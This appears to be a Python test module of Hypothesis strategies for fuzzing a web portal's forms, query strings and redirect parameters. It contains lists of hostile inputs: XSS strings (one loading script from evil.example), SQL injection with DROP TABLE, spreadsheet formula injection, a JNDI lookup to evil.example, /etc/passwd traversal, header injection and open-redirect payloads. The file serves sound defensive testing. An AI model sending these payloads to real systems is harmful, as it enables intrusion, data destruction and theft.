"""Hypothesis strategies for hostile input: what a careless, clever or malicious visitor sends.

Values are strings, as a browser sends them, or `bytes` for sequences that are not UTF-8 at all
(a browser cannot send them, a script can). `encode()` turns (name, value) pairs into a query
string or a form body: lone surrogates are sent as the bytes a careless encoder writes
("surrogatepass"), so the portal receives broken UTF-8 there too.
"""

from datetime import date
from urllib.parse import quote

from hypothesis import strategies as st

# Markers whose raw appearance in a page proves that input was not escaped. The portal's pages
# carry no <script> of their own (the CSP forbids inline script and the portal has no JavaScript).
PROBE_TAG = "<xss-probe"
PROBE_ATTRIBUTE = 'x-probe="'
UNESCAPED = ("<script", PROBE_TAG, PROBE_ATTRIBUTE)

PAYLOADS = [
    # HTML and script, in text and attribute contexts.
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<xss-probe>",
    '"><xss-probe>',
    "'><xss-probe>",
    '" x-probe="1',
    "</textarea><xss-probe>",
    "</title><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "{{ 7|add:7 }}{% debug %}",
    "&lt;xss-probe&gt;",
    # SQL and other injection.
    "' OR '1'='1",
    "'; DROP TABLE companies_organisation; --",
    '" OR 1=1 --',
    "1; SELECT pg_sleep(10)",
    "%' AND 1=0 UNION SELECT NULL --",
    "\\'\\\"%_",
    "!@#$%^&*()|&;<>",
    '-groen OR "" AND (',
    '=HYPERLINK("https://evil.example")',
    "+cmd|' /C calc'!A0",
    "${jndi:ldap://evil.example/a}",
    "../../../../etc/passwd",
    "%00",
    "%ff%fe",
    # Unicode: NUL, controls, direction marks, zero-width, emoji, combining, wide, other digits.
    "\x00",
    "groen\x00onderhoud",
    "\x07\x08\x0b\x0c\x1b[31m",
    "\r\nSet-Cookie: x=1",
    "\u202egnirrel\u202c",
    "\u200f\u200e\u2066\u2069",
    "\u200b\ufeff",
    "🏳️\u200d🌈👩🏽\u200d🔧",
    "Z\u0351\u0300\u0317a\u0310\u0300l\u0300g\u0301o",
    "ｇｒｏｅｎ",
    "３７００",
    "٣٧٠٠",
    "²³⁴⁵",
    "\ud800",
    "\udfff\ud83d",
    "\uffff\ufffe",
    "İıß\u0130ſ",
    # Blank-ish.
    "",
    " ",
    "\t\n",
    "\u00a0\u3000",
]

NUMBERS = [
    "0",
    "-0",
    "-1",
    "1",
    "2147483648",
    "-2147483649",
    "9223372036854775808",
    "-9223372036854775809",
    "1e309",
    "-1e309",
    "1e-309",
    "NaN",
    "nan",
    "Infinity",
    "-inf",
    "0x1F",
    "1_000",
    "1.5",
    "1,5",
    "00000000000000000000001",
    "9" * 40,
    "9" * 5000,
    "4e4",
    " 12 ",
    "12abc",
]

DATES = [
    "2025-02-30",
    "2025-13-01",
    "2025-00-10",
    "0000-00-00",
    "0001-01-01",
    "1899-12-31",
    "9999-12-31",
    "10000-01-01",
    "-2025-01-01",
    "31/12/2025",
    "12/31/2025",
    "2025-1-1",
    "2025-01-01T25:61:00",
    "20250101",
    "yesterday",
    "2025-02-29",
    "2024-02-29",
]

POSTCODES = [
    "3700",
    "1000",
    "0000",
    "9999",
    "1300",  # Wallonia: a real Belgian postcode
    "37000",
    "370",
    "3 7 0 0",
    " 3700 ",
    "3700\x00",
    "NL-6211",
    "-3700",
    "+3700",
]

ENTERPRISE_NUMBERS = [
    "0403.170.701",
    "0403170701",
    "BE 0403.170.701",
    "0403.170.702",  # wrong check digits
    "1403.170.701",
    "0000.000.000",
    "0000000097",
    "2403.170.776",
    "0403-170-701",
    "040317070",
    "04031707011",
    "4031707 01",
    "BE0403170701BE",
    "0403.170.701\x00",
]

INVALID_BYTES = [b"\xff", b"\xc3\x28", b"\xed\xa0\x80", b"\xf4\x90\x80\x80", b"\xc0\xaf", b"a\xffb"]


@st.composite
def _long_text(draw):
    """Thousands of characters, made by repeating a short random piece (cheap to generate)."""
    piece = draw(st.sampled_from(["a", "é", "<", "💶", "'", "x" * 7, "\u202e", " "]))
    return piece * draw(st.sampled_from([201, 256, 1001, 2001, 4001, 10001, 100001]))


# Random unicode: every category, the NUL character and lone surrogates included.
random_text = st.text(
    st.one_of(st.characters(codec=None, exclude_categories=()), st.characters(categories=["Cs"])),
    max_size=40,
)
numbers = st.one_of(
    st.sampled_from(NUMBERS),
    st.integers().map(str),
    st.decimals(allow_nan=True, allow_infinity=True).map(str),
)
dates = st.one_of(
    st.sampled_from(DATES),
    st.dates(min_value=date(1, 1, 1), max_value=date(9999, 12, 31)).map(date.isoformat),
    st.tuples(st.integers(-99999, 99999), st.integers(-1, 99), st.integers(-1, 99)).map(
        lambda ymd: f"{ymd[0]}-{ymd[1]:02d}-{ymd[2]:02d}"
    ),
)
postcodes = st.one_of(st.sampled_from(POSTCODES), st.from_regex(r"\A[0-9]{1,6}\Z"))
enterprise_numbers = st.one_of(
    st.sampled_from(ENTERPRISE_NUMBERS), st.from_regex(r"\A[0-9. BE-]{0,16}\Z")
)
long_text = _long_text()
invalid_bytes = st.sampled_from(INVALID_BYTES)

hostile = st.one_of(
    st.sampled_from(PAYLOADS),
    random_text,
    long_text,
    numbers,
    dates,
    postcodes,
    enterprise_numbers,
    invalid_bytes,
    # A payload inside ordinary text, as a real form would carry it.
    st.tuples(st.sampled_from(PAYLOADS), random_text).map(lambda pair: pair[1] + pair[0]),
)


def query(names, values=hostile, *, max_size=8):
    """A list of (name, value) pairs over the page's parameter names and a few stray ones;
    names may repeat (?q=a&q=b), as they may in any URL."""
    name = st.one_of(
        st.sampled_from(list(names)),
        st.sampled_from(["format", "page", "per_page", "sort", "next", "csrfmiddlewaretoken"]),
        random_text,
    )
    return st.lists(st.tuples(name, values), max_size=max_size)


def form(valid, *, fields=None, values=hostile):
    """A form body: the `valid` data (a dict; list values for repeated fields) with some fields
    replaced by hostile values, some repeated, some left out. Returns a list of pairs."""
    names = list(fields or valid)

    @st.composite
    def build(draw):
        data = {
            name: list(value) if isinstance(value, list) else [value]
            for name, value in valid.items()
        }
        for name in draw(st.lists(st.sampled_from(names), max_size=len(names), unique=True)):
            data[name] = draw(st.lists(values, min_size=0, max_size=3))
        extra = draw(st.lists(st.tuples(st.sampled_from(names), values), max_size=2))
        pairs = [(name, value) for name, items in data.items() for value in items]
        return pairs + extra

    return build()


def _bytes(value):
    if isinstance(value, bytes):
        return value
    return str(value).encode("utf-8", "surrogatepass")


def encode(pairs):
    """The pairs as application/x-www-form-urlencoded text (a query string or a POST body)."""
    return "&".join(
        f"{quote(_bytes(name), safe='')}={quote(_bytes(value), safe='')}" for name, value in pairs
    )


def texts_of(pairs):
    """The values as the portal decodes them, for the reflection check."""
    return [
        value.decode("utf-8", "replace") if isinstance(value, bytes) else value
        for _name, value in pairs
    ]


# Where a `next` parameter may try to send a user after a form: only this site is allowed.
REDIRECTS = [
    "https://evil.example/",
    "//evil.example/",
    "///evil.example/",
    "/\\evil.example/",
    "\\\\evil.example",
    "https:evil.example",
    "http:/evil.example",
    " //evil.example",
    "\t//evil.example",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "/%2F%2Fevil.example",
    "/organisations/",
    "/dashboard/?x=<xss-probe>",
]
redirects = st.one_of(st.sampled_from(REDIRECTS), hostile)
